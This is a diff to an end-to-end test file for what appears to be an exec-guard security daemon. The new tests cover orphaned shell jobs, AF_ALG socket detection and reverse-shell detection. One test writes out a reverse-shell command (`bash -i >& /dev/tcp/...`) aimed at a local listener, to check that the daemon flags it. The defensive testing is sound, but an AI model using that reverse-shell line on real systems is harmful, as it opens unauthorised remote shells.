@@ -1,6 +1,6 @@
 """The daemon's exec guard with the real daemon on the audit rung (netlink proc connector).
 
-Each test starts `attyguard daemon --ebpf-mode …` on a socket in a tmp dir
+Each test starts `attyguard daemon --ebpf-mode …` (rung forced to `audit`) on a socket in a tmp dir
 (killed by the fixture), and a child Python that registers itself as a shell
 would (`DaemonClient.register`), holds a warn subscription, and then runs a
 command reached through a program started by a program. On rung 4 nothing
@@ -11,6 +11,7 @@ tests/e2e/test_exec_guard.py once the kernel layer is installed.
 
 from __future__ import annotations
 
+import importlib.util
 import json
 import os
 import select
@@ -44,9 +45,25 @@ reg = client.register()
 if mode == "trusted":
     client.trusted("make it so")
 inner = "bash -c " + repr(sys.argv[4] + "; touch " + marker)
+if mode == "alg":
+    import socket
+    try:  # the tracepoint is on entry: seen even where the kernel lacks AF_ALG
+        socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0).close()
+    except OSError:
+        pass
+    deadline = time.monotonic() + 10
+    while not events and time.monotonic() < deadline:
+        time.sleep(0.01)
+    sub.stop()
+    print(json.dumps({"pid": os.getpid(), "events": events}))
+    sys.exit(0)
 if mode == "orphan":
-    # the shell exits at once; its background job runs the command later
-    subprocess.Popen(["bash", "-c", "sleep 1; " + inner], start_new_session=True,
+    # the shell exits at once; its background job runs the command later, from
+    # a file (so nothing is judged before the shell has gone)
+    later = marker + ".sh"
+    with open(later, "w") as f:
+        f.write(sys.argv[4] + "; sleep 1; touch " + marker + "\\n")
+    subprocess.Popen(["bash", "-c", "sleep 1; bash " + later], start_new_session=True,
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     print(json.dumps({"pid": os.getpid()}))
     sys.exit(0)
@@ -64,7 +81,10 @@ print(json.dumps({"pid": os.getpid(), "register": reg, "events": events, "refuse
 def daemon() -> Iterator[Callable[..., RunningDaemon]]:
     started: list[RunningDaemon] = []
 
-    def make(*args: str, config_text: str = "") -> RunningDaemon:
+    def make(*args: str, config_text: str = "[daemon]\n") -> RunningDaemon:
+        # Rung 4 forced: these tests are about the proc connector source, whatever
+        # stronger rung this machine has.
+        config_text = config_text.replace("[daemon]\n", '[daemon]\nexec_rung = "audit"\n', 1)
         d = RunningDaemon(short_tmpdir(), args, config_text)
         started.append(d)
         d.start()
@@ -270,4 +290,60 @@ def test_an_orphan_of_an_exited_shell_stays_guarded(daemon: Callable[..., Runnin
     wait_for(marker.exists, 20, "the orphan's command", d.log)
     found = wait_for(lambda: records(d, lambda r: r["shell"] == out["pid"]
                                      and r["action"] == "warn"), 10, "its record", d.log)
-    assert found[0]["argv"][:2] == ["bash", "-c"]
+    assert found[0]["argv"] == ["bash", f"{marker}.sh"]
+
+
+def test_a_shell_on_a_network_socket_is_seen_as_a_reverse_shell(
+        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
+    import socket
+
+    d = daemon("--ebpf-mode", "warn")
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    command = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
+    proc = subprocess.Popen([sys.executable, "-c", CHILD, d.socket, str(tmp_path / "m"),
+                             "plain", command], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True, cwd="/")
+    conn = None
+    try:
+        listener.settimeout(20)
+        conn, _ = listener.accept()
+        found = wait_for(lambda: records(d, lambda r: "exec.reverse-shell" in r["rules"]), 20,
+                         "the reverse shell's record", d.log)
+        assert found[0]["argv"] == ["bash", "-i"] and found[0]["action"] == "warn"
+    finally:
+        if conn is not None:
+            conn.close()  # the shell on it reads EOF and exits
+        listener.close()
+        try:
+            proc.communicate(timeout=30)
+        finally:
+            proc.kill()
+            proc.wait()
+
+
+@pytest.mark.skipif(importlib.util.find_spec("attyguard.kernel.layer") is None,
+                    reason="attyguard.kernel.layer (a permission rung) is not installed")
+def test_enforce_an_orphan_of_an_exited_shell_is_still_refused(
+        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
+    # No forced rung: the strongest here (fanotify on this project's machines).
+    d = daemon("--ebpf-mode", "enforce", config_text="[accumulator]\n")
+    assert d.call("status")["exec"]["rung"] in ("fanotify", "lsm", "signal"), d.log()
+    marker = tmp_path / "m"
+    out = child(d, marker, mode="orphan")
+    found = wait_for(lambda: records(d, lambda r: r["shell"] == out["pid"]
+                                     and r["action"] == "block"), 20, "the refusal", d.log)
+    assert found[0]["argv"] == ["bash", f"{marker}.sh"]
+    assert not marker.exists()
+
+
+@pytest.mark.skipif(importlib.util.find_spec("attyguard.kernel.layer") is None,
+                    reason="attyguard.kernel.layer (the AF_ALG tracepoint) is not installed")
+def test_an_af_alg_socket_in_a_guarded_tree_is_a_warning(
+        daemon: Callable[..., RunningDaemon], tmp_path: Path) -> None:
+    d = daemon("--ebpf-mode", "enforce", config_text="[accumulator]\n")
+    out = child(d, tmp_path / "m", mode="alg")
+    assert any("AF_ALG" in e for e in out["events"]), out
+    found = records(d, lambda r: r["kind"] == "alg_socket")
+    assert found and found[0]["pid"] == out["pid"] and found[0]["action"] == "warn"
+    assert found[0]["rules"] == ["exec.af-alg-socket"]
